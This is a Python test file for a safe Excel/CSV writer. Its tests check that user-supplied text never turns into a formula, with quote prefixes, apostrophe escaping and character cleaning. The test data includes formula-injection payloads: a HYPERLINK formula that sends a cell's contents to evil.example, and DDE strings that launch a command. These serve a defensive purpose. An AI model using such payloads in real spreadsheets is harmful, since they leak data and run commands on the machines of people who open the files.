"""Safe cells: user text always comes back as text, whatever it looks like."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from core.excel import MAX_CELL_CHARS, SafeWorkbook, clean_text, csv_text, looks_like_formula, openpyxl_text

TRIGGERS = st.sampled_from(["=", "+", "-", "@", "\t", "\r"])
CLASSIC = st.sampled_from(
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "http://example.com",
        "0012345",
        "1e5",
    ]
)
ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=80)
USER_TEXT = st.one_of(CLASSIC, st.builds(lambda t, s: t + s, TRIGGERS, ANY_TEXT), ANY_TEXT)


def unescape(value: str) -> str:
    """openpyxl leaves OOXML's _xHHHH_ escapes in place; Excel reads them as the character."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def write(values: list[str], *, constant_memory: bool) -> bytes:
    out = io.BytesIO()
    wb = SafeWorkbook(out, constant_memory=constant_memory)
    sheet = wb.add_sheet("s")
    for row, value in enumerate(values):
        wb.text(sheet, row, 0, value)
    wb.close()
    return out.getvalue()


@settings(max_examples=150, deadline=None)
@given(values=st.lists(USER_TEXT, min_size=1, max_size=8), constant_memory=st.booleans())
def test_safe_workbook_text_is_never_a_formula(values, constant_memory):
    data = write(values, constant_memory=constant_memory)

    sheet = openpyxl.load_workbook(io.BytesIO(data))["s"]
    cells = [sheet.cell(row=i + 1, column=1) for i in range(len(values))]
    assert [c.data_type for c in cells if c.value is not None] == ["s"] * sum(1 for v in values if clean_text(v))
    assert [unescape(c.value or "") for c in cells] == [clean_text(v) for v in values]
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_safe_workbook_gives_formula_like_text_the_quote_prefix():
    sheet = openpyxl.load_workbook(io.BytesIO(write(["=1+1", "plain"], constant_memory=False)))["s"]

    assert (sheet["A1"].quotePrefix, sheet["A2"].quotePrefix) == (True, False)


def test_clean_text_drops_what_xml_cannot_hold_and_cuts_at_excels_limit():
    assert clean_text("a\x00b\x1fc\td\ne\rf\ufffe") == "abc\td\ne\rf"
    assert len(clean_text("长" * (MAX_CELL_CHARS + 10))) == MAX_CELL_CHARS
    assert clean_text(None) == ""


def test_csv_text_prefixes_formula_like_text_with_an_apostrophe():
    assert [csv_text(v) for v in ["=1+1", "+1", "-1", "@A1", "\t1", "\r1", "学校", ""]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t1",
        "'\r1",
        "学校",
        "",
    ]


def test_looks_like_formula_names_the_trigger_characters():
    assert [looks_like_formula(v) for v in ["=", "+", "-", "@", "\t", "\r", " =", "a="]] == [True] * 6 + [False] * 2


def test_openpyxl_text_keeps_a_formula_like_string_as_text():
    book = openpyxl.Workbook()
    openpyxl_text(book.active["A1"], "=1+1")
    out = io.BytesIO()
    book.save(out)

    cell = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A1"]

    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_safe_workbook_cells_without_a_format_get_the_chinese_font():
    sheet = openpyxl.load_workbook(io.BytesIO(write(["学校", "=1+1"], constant_memory=True)))["s"]

    assert [(c.font.name, c.font.sz) for c in (sheet["A1"], sheet["A2"])] == [("宋体", 10), ("宋体", 10)]
